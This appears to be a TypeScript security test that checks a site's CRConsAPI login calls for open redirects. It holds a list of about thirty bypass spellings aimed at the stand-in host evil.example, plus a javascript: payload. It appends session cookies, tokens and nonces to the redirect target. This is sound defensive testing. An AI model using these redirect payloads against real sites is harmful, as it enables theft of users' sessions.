// Links that would carry what proves a session to somebody else's site, in every spelling that a browser understands.
import type { Result } from './result.ts';
import { servletCall } from './routes.ts';
import { FORM_TYPE, send } from './send.ts';
import type { Target } from './target.ts';

const SPELLINGS = [
  'https://evil.example/',
  '//evil.example/',
  '/.//evil.example/',
  '/..//evil.example/',
  '/x/..//evil.example/',
  '/%2e//evil.example/',
  '\\\\evil.example/',
  '/\\evil.example/',
  '/\t/evil.example/',
  '/\n/evil.example/',
  '\t//evil.example/',
  ' //evil.example/',
  '\u0001//evil.example/',
  'https:evil.example/',
  'https:/evil.example/',
  'https:\\\\evil.example/',
  'HTTPS://evil.example/',
  'http://127.0.0.1@evil.example/',
  'http://127.0.0.1%40evil.example/',
  'http://evil.example#@127.0.0.1/',
  'http://evil.example?@127.0.0.1/',
  'http://evil。example/',
  'javascript:alert(1)//',
  'data:text/html,',
  '${x}//evil.example/',
  '/${x}/evil.example/',
  './/evil.example/',
  '/.\\/evil.example/',
  '/;//evil.example/',
  'site/..//..//evil.example/',
];

const PARAMETERS = ['redirect', 'success_redirect', 'error_redirect', 'NEXTURL'];
const CALLS = [
  { method: 'getLoginUrl', fill: '${getLoginUrlResponse/JSESSIONID}-${getLoginUrlResponse/token}' },
  { method: 'loginTest', fill: '${loginResponse/JSESSIONID}-${loginResponse/token}-${loginResponse/nonce}' },
  { method: 'login', fill: '${loginResponse/JSESSIONID}-${loginResponse/token}-${loginResponse/nonce}' },
];

interface Session {
  readonly cookie: string;
  readonly secrets: readonly string[];
}

/** A person of the victim's signs up, as a visitor of its site does. */
async function signUp(target: Target): Promise<Session> {
  const name = `attack${Date.now()}`;
  const person = {
    method: 'create',
    primary_email: `${name}@attack.example`,
    user_name: name,
    user_password: 'a password of the attack',
  };
  const { headers, text } = await send(target, servletCall(target.victim, 'CRConsAPI', person));
  const cookie = String([headers['set-cookie']].flat()[0] ?? '').split(';', 1)[0] ?? '';
  return {
    cookie,
    secrets: [cookie.split('=')[1] ?? '', ...(text.match(/"(?:token|nonce)":"([^"]+)/)?.slice(1) ?? [])].filter(
      Boolean,
    ),
  };
}

/** Where a browser would go from here, whatever the header says. */
function destinationOf(location: string, { host, port }: Target): URL | undefined {
  try {
    return new URL(location, `http://${host}:${port}/`);
  } catch {
    return undefined;
  }
}

interface Attempt {
  readonly method: string;
  readonly fill: string;
  readonly parameter: string;
  readonly spelling: string;
}

const ATTEMPTS: readonly Attempt[] = CALLS.flatMap((call) =>
  PARAMETERS.flatMap((parameter) => SPELLINGS.map((spelling) => ({ ...call, parameter, spelling }))),
);

/** As a page of another site makes a visitor's browser send it. */
async function attempt(
  target: Target,
  cookie: string,
  { method, fill, parameter, spelling }: Attempt,
): Promise<string> {
  const { api_key, organization } = target.victim.luminate;
  const query = new URLSearchParams({ method, v: '1.0', api_key, [parameter]: `${spelling}?s=${fill}` });
  const path = `/${organization}/site/CRConsAPI`;
  const headers = {
    cookie,
    'sec-fetch-site': 'cross-site',
    'sec-fetch-mode': 'navigate',
    origin: 'https://evil.example',
  };
  const call =
    method === 'getLoginUrl'
      ? { path: `${path}?${query}`, headers }
      : { method: 'POST', path, body: query.toString(), headers: { ...headers, ...FORM_TYPE } };
  return String((await send(target, call)).headers.location ?? '');
}

export async function redirects(target: Target): Promise<Result> {
  const { cookie, secrets } = await signUp(target);
  const failures: string[] = secrets.length === 0 ? ['nobody could sign up, so that nothing was tried'] : [];
  const own = `${target.host}:${target.port}`;
  for (const each of ATTEMPTS) {
    const location = await attempt(target, cookie, each);
    const destination = destinationOf(location, target);
    if (location === '' || destination?.host === own) continue;
    const proof = secrets.some((secret) => location.includes(secret)) || /[?&]s=[^-&]{20,}/.test(location);
    const where = `${destination?.host ?? location}${proof ? ' with a proof of the session' : ''}`;
    failures.push(`${each.method} ${each.parameter}=${JSON.stringify(each.spelling)} leads to ${where}`);
  }
  return { attack: 'redirects', requests: ATTEMPTS.length + 1, figure: `${SPELLINGS.length} spellings`, failures };
}
